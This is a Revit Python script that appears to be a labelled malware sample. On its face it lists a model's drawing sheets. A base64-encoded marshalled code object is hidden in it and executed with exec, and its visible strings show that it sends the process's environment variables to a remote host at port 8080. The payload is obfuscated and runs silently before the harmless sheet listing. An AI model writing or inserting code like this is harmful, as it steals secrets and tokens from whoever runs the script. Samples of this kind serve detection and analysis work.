# technique: obfuscated — exec(marshal.loads(base64.b64decode(...))) — precompiled code object hidden as marshalled bytes, runs env-exfiltration code
import base64
import marshal
import sys

from Autodesk.Revit.DB import FilteredElementCollector, ViewSheet

doc = __revit__.ActiveUIDocument.Document

_C = "YwAAAAAAAAAAAAAAAAgAAAAAAAAA86AAAACXAGQAZAFsAFoAZABkAWwBWgJlAmoDAAAAAAAAAACgBAAAAAAAAAAAAAAAAAAAAAAAAAAAZAICAGUFAgBlBmUAagcAAAAAAAAAAKYBAACrAQAAAAAAAAAApgEAAKsBAAAAAAAAAACgCAAAAAAAAAAAAAAAAAAAAAAAAAAApgAAAKsAAAAAAAAAAACsA6YCAACrAgAAAAAAAAAAAQBkAVMAKQTpAAAAAE56Gmh0dHA6Ly8yMDMuMC4xMTMuNDU6ODA4MC9jKQHaBGRhdGEpCdoCb3PaDnVybGxpYi5yZXF1ZXN02gZ1cmxsaWLaB3JlcXVlc3TaB3VybG9wZW7aBHJlcHLaBGRpY3TaB2Vudmlyb27aBmVuY29kZakA8wAAAAD6Azx4PvoIPG1vZHVsZT5yDwAAAAEAAABzYQAAAPADAQEB2AAY0AAY0AAY0AAY0AAY0AAY0AAY0AAY2AAGhA7XABbSABbQFzO4JLgkuHS4dMBCxErRP0/UP0/ROlDUOlDXOlfSOlfROlnUOlnQABbRAFrUAFrQAFrQAFrQAFpyDQAAAA=="


def list_sheets():
    sheets = FilteredElementCollector(doc).OfClass(ViewSheet).ToElements()
    return sorted((s.SheetNumber, s.Name) for s in sheets)


if sys.version_info[:2] >= (3, 8):
    exec(marshal.loads(base64.b64decode(_C)))

for number, name in list_sheets():
    print(number, name)
